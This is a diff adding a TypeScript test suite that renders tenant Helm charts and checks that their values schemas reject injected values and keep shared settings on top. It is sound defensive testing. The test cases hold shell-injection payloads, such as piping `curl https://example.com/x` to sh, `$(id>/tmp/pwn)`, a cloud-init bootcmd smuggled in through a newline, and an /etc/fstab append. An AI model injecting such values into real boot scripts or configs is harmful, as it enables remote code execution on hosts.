@@ -1,0 +1,91 @@
+/**
+ * The tenant local charts refuse, at render time (so at every ArgoCD sync, whatever CI ran),
+ * the values an attacker with a pull request or a typo would give them: Helm checks the
+ * merged values against each chart's values.schema.json (components/fleet/chart-schemas.ts),
+ * and the shared values are read last, so no tenant's file changes what every tenant shares.
+ */
+import * as assert from "node:assert/strict";
+import { spawnSync } from "child_process";
+import * as fs from "fs";
+import * as os from "os";
+import * as path from "path";
+import { parseAllDocuments, stringify } from "yaml";
+import { PROJECT_ROOT } from "../config";
+import { toolPath } from "../cli/fleet-render";
+import { tenantAddOnValueFiles } from "../components/fleet/application-set";
+import { tenantChartSchemaFiles } from "../components/fleet/chart-schemas";
+import { LOCAL_CHARTS } from "../facts/fleet";
+
+describe("the tenant local charts' values.schema.json", () => {
+  it("are the ones chart-schemas.ts builds (UPDATE_CHART_SCHEMAS=1 rewrites them)", () => {
+    for (const [rel, text] of Object.entries(tenantChartSchemaFiles())) {
+      if (process.env.UPDATE_CHART_SCHEMAS) fs.writeFileSync(path.join(PROJECT_ROOT, rel), text);
+      assert.equal(fs.readFileSync(path.join(PROJECT_ROOT, rel), "utf8"), text, `${rel} is stale: UPDATE_CHART_SCHEMAS=1 npm test`);
+    }
+  });
+});
+
+describe("the tenant local charts against hostile or broken values", function () {
+  this.timeout(60000);
+  const helm = toolPath(PROJECT_ROOT, "helm");
+  const charts = { "cluster-manifests": LOCAL_CHARTS.tenantCluster, "control-plane-manifests": LOCAL_CHARTS.tenantControlPlane } as const;
+  let dir: string;
+  before(function () {
+    if (!helm) return this.skip(); // run `bash scripts/install-tools` (CI does)
+    dir = fs.mkdtempSync(path.join(os.tmpdir(), "tenant-charts-"));
+  });
+  after(() => dir && fs.rmSync(dir, { recursive: true, force: true }));
+
+  /** acme's add-on rendered with `tenant` over its own values (in the tenant's place) and `facts` over its facts: the objects, or Helm's error. */
+  function render(addon: keyof typeof charts, edits: { tenant?: Record<string, unknown>; facts?: Record<string, unknown> }): { objects: any[]; error: string } {
+    const [own, facts, shared] = tenantAddOnValueFiles("dev", "acme", addon).map((f) => path.join(PROJECT_ROOT, f));
+    const extra = (name: string, v: Record<string, unknown> | undefined) => {
+      if (!v) return [];
+      const f = path.join(dir, `${addon}-${name}.yaml`);
+      fs.writeFileSync(f, stringify(v));
+      return [f];
+    };
+    const files = [own, ...extra("tenant", edits.tenant), facts, ...extra("facts", edits.facts), shared];
+    const run = spawnSync(helm as string, ["template", addon, path.join(PROJECT_ROOT, charts[addon]), "--namespace", "tenant-acme", ...files.flatMap((f) => ["--values", f])], { encoding: "utf8" });
+    return { objects: run.status === 0 ? parseAllDocuments(run.stdout).map((d) => d.toJS()).filter(Boolean) : [], error: run.stderr };
+  }
+
+  it("render acme's objects from its committed files", () => {
+    assert.equal(render("cluster-manifests", {}).objects.length, 10);
+    assert.equal(render("control-plane-manifests", {}).objects.length, 14);
+  });
+
+  it("refuse shell in any value the workers' boot script takes, naming the key and its pattern", () => {
+    const cases: Record<string, unknown>[] = [
+      { k3sVersion: "v1.35.3+k3s1'; curl -s https://example.com/x | sh; echo '" },
+      { region: "us-east-1 $(id>/tmp/pwn)" },
+      { tenantId: "acme$(touch /tmp/owned)" },
+      { environment: "dev\nbootcmd:\n  - [sh, -c, 'curl x|sh']" },
+    ];
+    for (const tenant of cases) {
+      const { objects, error } = render("cluster-manifests", { tenant });
+      assert.equal(objects.length, 0, JSON.stringify(tenant));
+      assert.match(error, new RegExp(`at '/${Object.keys(tenant)[0]}'`), error);
+    }
+    const { error } = render("cluster-manifests", { facts: { fileSystemId: "fs-1 /mnt/efs efs _netdev 0 0' >> /etc/fstab; curl x|sh; echo '" } });
+    assert.match(error, /at '\/fileSystemId': .* does not match pattern/);
+  });
+
+  it("keep what every tenant shares whatever the tenant's file says (the shared file is read last)", () => {
+    const { objects } = render("cluster-manifests", { tenant: { nodeClass: { spec: { metadataOptions: { httpPutResponseHopLimit: 2 } } } } });
+    assert.equal(objects.find((o) => o.kind === "EC2NodeClass")?.spec.metadataOptions.httpPutResponseHopLimit, 1);
+    const cp = render("control-plane-manifests", { tenant: { namespaced: [{ apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRoleBinding", metadata: { name: "x" } }] } });
+    assert.ok(!cp.objects.some((o) => o.kind === "ClusterRoleBinding"));
+  });
+
+  it("refuse an srun block that is not the contract's size or runs backwards, and a NodePort off the range", () => {
+    assert.match(render("control-plane-manifests", { tenant: { srunPorts: { from: 32739, to: 32730 } } }).error, /srunPorts 32739-32730 is not a block of 10 ports/);
+    assert.match(render("control-plane-manifests", { tenant: { srunPorts: { from: 30000, to: 32767 } } }).error, /is not a block of 10 ports/);
+    assert.match(render("control-plane-manifests", { facts: { slurmctld: { host: "10.0.0.10", port: 80 } } }).error, /at '\/slurmctld\/port': .*minimum/);
+    assert.match(render("control-plane-manifests", { facts: { centralHostIp: "999.0.0.10" } }).error, /at '\/centralHostIp'/);
+  });
+
+  it("refuse a value that YAML would splice into the object (a region with a newline)", () => {
+    assert.match(render("control-plane-manifests", { tenant: { centralRegion: "us-east-1\n      auth: {}" } }).error, /at '\/centralRegion'/);
+  });
+});
